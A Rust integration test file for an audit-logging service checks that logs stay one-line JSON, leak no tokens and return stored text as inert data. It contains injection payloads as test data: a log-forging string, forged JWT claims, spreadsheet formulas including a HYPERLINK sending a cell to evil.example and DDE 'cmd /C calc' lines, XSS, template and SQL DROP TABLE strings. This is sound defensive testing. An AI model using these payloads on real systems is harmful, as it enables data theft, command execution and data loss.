//! Text that is meant for whoever reads it later: a log, a browser, a spreadsheet.

use std::collections::BTreeSet;

use authorizer::{Authorizer, AuthorizerRequest};
use serde_json::{Value, json};
use sporlog_local::s3::DEFAULT_REGION;
use sporlog_model::{Clock, EntityType};
use uuid::Uuid;

use super::forge::Forge;
use super::{ENTITY, register};
use crate::harness::{Answer, Caller, Captured, FolioEvent, NOBODY, System, kafka_event, kafka_record, topic};

/// In every text that a caller may choose: ends a line, begins another, colours a terminal, and ends a JSON text.
const MARK: &str = "mark7f3a";
const TRICK: &str = "mark7f3a\r\n{\"level\":\"ERROR\",\"message\":\"forged\",\"org\":\"mark7f3a\"}\n\u{1b}[31m\u{202e}\",\"forged\":\"\\u000a";

/// The same as a part of a URL.
fn encoded() -> String {
    percent_encoding::utf8_percent_encode(TRICK, percent_encoding::NON_ALPHANUMERIC).to_string()
}

/// The members that a line of the log may have, whatever is sent.
const MEMBERS: [&str; 27] = [
    "timestamp",
    "level",
    "target",
    "message",
    "span",
    "operation",
    "method",
    "route",
    "org",
    "request_id",
    "status",
    "duration_ms",
    "code",
    "rows",
    "cause",
    "kind",
    "reason",
    "position",
    "source",
    "stored",
    "duplicates",
    "skipped",
    "rejected",
    "failed",
    "emf",
    "issuer",
    "error",
];

#[track_caller]
fn assert_clean(what: &str, text: &str, secrets: &[&str]) {
    for line in text.split_inclusive('\n') {
        assert!(line.ends_with('\n'), "{what}: {line}");
        let parsed: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{what}: {error}: {line}"));
        let members: BTreeSet<&str> = parsed.as_object().unwrap().keys().map(String::as_str).collect();
        let unknown: Vec<_> = members.into_iter().filter(|member| !MEMBERS.contains(member)).collect();
        assert!(unknown.is_empty(), "{what}: {unknown:?}: {line}");
        assert!(line.bytes().all(|byte| byte == b'\n' || byte >= b' '), "{what}: {line:?}");
    }
    for secret in secrets {
        assert!(!text.contains(secret), "{what} tells {secret}: {text}");
    }
}

/// On one thread, whose log it looks at.
#[tokio::test]
async fn a_line_of_the_log_is_one_line_and_says_nothing_that_was_sent() {
    let forge = Forge::start().await;
    let system = &forge.system;
    register(system, "diku", "diku").await;
    let key = system.api_key("diku", &["kyc:read", "kyc:write"]).await;
    let everything = json!({"roles": ["admin", "service"], "scope": "audit.all audit.config.all platform:admin"});
    let mut claims = everything.clone();
    // Who it is, in the words of the issuer; and where else a token has room.
    claims["sub"] = json!(TRICK);
    claims["jti"] = json!(TRICK);
    claims[TRICK] = json!(TRICK);
    let token = forge.token(&claims);
    let bearer = format!("Bearer {token}");
    let strange = encoded();
    let headers = [
        ("authorization", bearer.as_str()),
        ("x-okapi-token", &token),
        ("x-okapi-tenant", "diku"),
        ("x-api-key", &key),
        ("content-type", "application/json"),
        ("user-agent", "mark7f3a\t{\"a\":1}"),
        ("referer", "mark7f3a"),
        ("cookie", "mark7f3a=mark7f3a"),
        ("x-forwarded-for", "mark7f3a"),
        ("x-amzn-trace-id", "Root=1-mark7f3a"),
        ("idempotency-key", "mark7f3a"),
        ("if-match", "\"mark7f3a\""),
        ("origin", "mark7f3a"),
        ("accept-language", "mark7f3a"),
    ];
    let body = json!({TRICK: TRICK, "name": TRICK, "user": TRICK, "action": TRICK, "entity_type": TRICK, "bucket": TRICK,
        "export_id": TRICK, "org_id": TRICK, "status": TRICK, "key": TRICK, "value": TRICK, "type": TRICK, "scopes": [TRICK],
        "region": TRICK, "roleArn": TRICK, "timestamp": TRICK, "format": TRICK, "file_url": TRICK});
    // Taken, so that a log would have something to tell.
    let entry = json!({"user": "mark7f3a", "entity_type": "mark7f3a", "action": "MARK7F3A", "new_value": TRICK, "reason": TRICK});
    let secrets = [MARK, token.as_str(), key.as_str(), "forged", "MARK7F3A"];

    let captured = Captured::start();
    let mut answered = BTreeSet::new();
    for (method, path) in [
        ("GET", "/orgs/{}"),
        ("PUT", "/orgs/{}"),
        ("PUT", "/orgs/diku"),
        ("POST", "/orgs/diku/api-keys"),
        ("GET", "/orgs/diku/api-keys?limit={}&before={}"),
        ("DELETE", "/orgs/diku/api-keys/{}"),
        ("POST", "/orgs/diku/audit-export/config"),
        ("POST", "/orgs/diku/audit-export/test-connection"),
        ("GET", "/orgs/diku/audit-export/runs?limit={}"),
        ("GET", "/orgs/diku/audit-export/setup?bucket={}&region={}"),
        ("GET", "/api/v1/bufdir-export-audit?status={}&org_id={}&limit={}"),
        ("POST", "/api/v1/bufdir-export-audit"),
        ("GET", "/api/v1/bufdir-export-audit/{}"),
        ("PUT", "/api/v1/bufdir-export-audit/{}/status"),
        ("PUT", "/api/v1/bufdir-export-audit/{}/file"),
        ("GET", "/audit-data/acquisition/order/{}?sortBy={}&limit={}"),
        ("GET", "/audit-data/acquisition/piece/{}/status-change-history?offset={}"),
        ("GET", "/audit/config/groups/{}/settings"),
        ("PUT", "/audit/config/groups/{}/settings/{}"),
        ("PUT", "/audit/config/groups/audit.user/settings/anonymize"),
        ("GET", "/api/v1/kyc/cases/{}/audit-log"),
        ("GET", "/api/v1/kyc/cases/1/audit-log?action={}&page={}"),
        ("POST", "/api/v1/kyc/cases/1/audit-log"),
        ("GET", "/{}"),
    ] {
        let path = path.replace("{}", &strange);
        for body in [Some(body.to_string()), Some(entry.to_string()), Some(TRICK.to_owned()), None] {
            let body = body.filter(|_| method != "GET");
            let answer = system.send(method, &path, &headers, body).await;
            assert!(answer.status < 500, "{method} {path}: {}", answer.text());
            answered.insert(answer.status);
        }
    }
    // Some were let in and written; the others were refused after they were read.
    assert!(answered.contains(&200) && answered.contains(&201) && answered.contains(&422), "{answered:?}");
    let text = captured.text();
    assert!(text.lines().count() > 60, "{text}");
    assert_clean("requests", &text, &secrets);

    let captured = Captured::start();
    for (header, claims) in [
        (json!({"alg": TRICK, "kid": TRICK}), json!({})),
        (json!({"alg": "ES256", "kid": TRICK}), json!({})),
        (json!({"alg": "ES256", "kid": "development", "typ": TRICK, "crit": [TRICK]}), json!({})),
        (json!({"alg": "ES256", "kid": "development"}), json!({"iss": TRICK})),
        (json!({"alg": "ES256", "kid": "development"}), json!({"aud": TRICK})),
        (json!({"alg": "ES256", "kid": "development"}), json!({"org": TRICK})),
        (json!({"alg": "ES256", "kid": "development"}), json!({"exp": TRICK})),
    ] {
        let refused = forge.signed(&header.to_string(), &Forge::claims(&claims).to_string());
        for (name, value) in [("authorization", format!("Bearer {refused}")), ("authorization", format!("{MARK} x"))] {
            let answer = system.request_with("GET", "/orgs/diku", &[(name, &value)]).await;
            assert_eq!(answer.status, 401, "{header} {claims}");
        }
        let answer =
            system.request_with("GET", "/api/v1/kyc/cases/1/audit-log", &[("x-api-key", "ap_live_mark7f3a")]).await;
        assert_eq!(answer.status, 401);
    }
    let text = captured.text();
    assert!(text.lines().count() >= 14, "{text}");
    assert_clean("credentials", &text, &secrets);
    forge.system.stop().await;
}

/// An issuer with a realm for each organization is asked for the keys of whatever realm a token names, before anything of the token
/// is verified.
#[tokio::test]
async fn a_line_about_keys_that_could_not_be_fetched_does_not_name_the_realm() {
    let forge = Forge::start().await;
    let trusted = json!([{"issuer": "https://kc.example/realms/*", "jwksUrl": format!("{NOBODY}/realms/{{realm}}/certs"),
        "orgFromRealm": true, "audience": "sporlog", "algorithms": ["ES256"]}]);
    let own = [("TRUSTED_ISSUERS", &*trusted.to_string()), ("AWS_REGION", DEFAULT_REGION)];
    let authorizer = Authorizer::from_environment(&forge.system.environment(&own), Clock::system()).unwrap();
    let token = forge.token(&json!({"iss": format!("https://kc.example/realms/{MARK}"), "sub": TRICK}));
    let request = json!({"identitySource": [token], "headers": {"x-okapi-token": token}});
    let request: AuthorizerRequest = serde_json::from_value(request).unwrap();
    let captured = Captured::start();
    assert_eq!(authorizer.authorize(&request).await.unwrap_err().error_type, "Unauthorized");
    let text = captured.text();
    let told = |line: &str| line.contains("could not be fetched") && line.contains("https://kc.example/realms/*");
    assert_eq!(text.lines().filter(|line| told(line)).count(), 1, "{text}");
    assert_clean("keys", &text, &[MARK, token.as_str(), "forged"]);
    forge.system.stop().await;
}

/// What a producer sends comes from systems that take text from anybody.
#[tokio::test]
async fn a_line_of_ingest_is_one_line_and_says_nothing_that_was_sent() {
    let system = System::start().await;
    let good =
        FolioEvent { snapshot: json!({"id": ENTITY, TRICK: TRICK}), ..FolioEvent::of(EntityType::Order, ENTITY) };
    let payload = |name: &str, value: &Value| {
        let mut payload = good.payload();
        payload[name] = value.clone();
        payload
    };
    let captured = Captured::start();
    let mut events = vec![good.in_batch("diku"), json!({"orgId": TRICK, "type": "order", "payload": good.payload()})];
    events.push(json!({"orgId": "diku", "type": TRICK, "payload": good.payload()}));
    events.push(json!({"orgId": "diku", "type": "order", "payload": TRICK}));
    events.push(json!({TRICK: TRICK}));
    events.push(json!(TRICK));
    // The last two are taken as they are: who it was is the producer's to say, and nobody reads when it was sent.
    for name in ["id", "action", "orderId", "actionDate", "userId", "eventDate"] {
        for value in [json!(TRICK), json!({TRICK: TRICK}), json!([TRICK])] {
            events.push(json!({"orgId": "diku", "type": "order", "payload": payload(name, &value)}));
        }
    }
    let refused = events.len() - 7;
    let answer = system.ingest(events).await;
    assert_eq!((&answer["stored"], &answer["duplicates"]), (&json!(1), &json!(6)), "{answer}");
    assert_eq!(answer["rejected"].as_array().map(Vec::len), Some(refused), "{answer}");
    assert!(!answer.to_string().contains(MARK), "{answer}");
    let order = topic("diku", EntityType::Order);
    let records = [TRICK.to_owned(), payload("action", &json!(TRICK)).to_string()];
    for record in &records {
        system.invoke("IngestFunction", &kafka_event(vec![kafka_record(&order, 0, record.as_bytes())])).await;
    }
    let text = captured.text();
    assert!(text.lines().count() >= refused, "{text}");
    assert_clean("ingest", &text, &[MARK, "forged"]);
    system.stop().await;
}

/// Formulas, markup and escapes: each is text here, and comes back as the text it was.
const TEXTS: [&str; 8] = [
    "=HYPERLINK(\"https://evil.example?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(document.domain)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</script><!-- ${7*7} {{7*7}} #{7*7} %s%n",
    "';DROP TABLE events;-- \\u003cb\\u003e",
];

/// JSON by its type, and nothing that a browser may take for something else, or a cache in between for somebody else's.
#[track_caller]
fn assert_is_data(what: &str, answer: &Answer) {
    let header = |name: &str| answer.headers.get(name).map(|value| value.to_str().unwrap().to_owned());
    assert_eq!(header("content-type").as_deref(), Some("application/json"), "{what}");
    assert_eq!(header("x-content-type-options").as_deref(), Some("nosniff"), "{what}");
    assert_eq!(header("cache-control").as_deref(), Some("no-store"), "{what}");
}

#[tokio::test(flavor = "multi_thread")]
async fn stored_text_comes_back_as_it_was_and_as_data() {
    let system = System::start().await;
    let bucket = system.enable_export("diku").await;
    let key = system.api_key("diku", &["kyc:read", "kyc:write"]).await;
    let auditor = Caller::auditor("diku");
    let case = "/api/v1/kyc/cases/7/audit-log";
    for (n, text) in TEXTS.into_iter().enumerate() {
        let order = Uuid::new_v4().to_string();
        let event = FolioEvent {
            snapshot: json!({"id": order, "note": text, text: n}),
            ..FolioEvent::of(EntityType::Order, &order)
        };
        assert_eq!(system.ingest(vec![event.in_batch("diku")]).await["stored"], 1);
        let read = system.get(&auditor, &format!("/audit-data/acquisition/order/{order}")).await;
        assert_is_data("order", &read);
        assert!(read.text().contains(&event.snapshot.to_string()), "{}", read.text());

        let entry = json!({"user": text, "entity_type": "kyc_case", "action": "STATUS_CHANGED", "old_value": text,
            "new_value": text, "reason": text});
        let written = system.call_with_key(&key, "POST", case, Some(&entry)).await;
        assert_eq!(written.status, 201, "{}", written.text());
        assert_is_data("entry", &written);
        let read = system.call_with_key(&key, "GET", case, None).await;
        assert_is_data("case", &read);
        for member in ["user", "old_value", "new_value", "reason"] {
            assert_eq!(read.json()["data"][0][member], text, "{member}");
        }

        let named = system.call(&Caller::platform_admin(), "PUT", "/orgs/diku", Some(&json!({"name": text}))).await;
        assert_eq!((named.status, &named.json()["name"]), (200, &json!(text)));
        assert_is_data("organization", &named);
        // Where an error repeats what was sent.
        let query = percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC);
        let refused = system.get(&auditor, &format!("/audit-data/acquisition/order/{order}?limit={query}")).await;
        assert_eq!(refused.status, 422, "{}", refused.text());
        assert_is_data("error", &refused);
        assert_eq!(refused.json()["errors"][0]["parameters"][0]["value"], text);
    }
    system.export("diku").await;
    let exported = system.exported_lines(&bucket);
    for text in TEXTS {
        let of = |source: &str| exported.iter().filter(|line| line["source"] == source).collect::<Vec<_>>();
        assert!(of("acquisition").iter().any(|line| line["data"]["note"] == text), "{text}");
        assert!(of("kyc").iter().any(|line| line["data"]["newValue"] == text), "{text}");
    }
    assert_eq!(system.exported_text(&bucket).lines().count(), exported.len());
    system.stop().await;
}
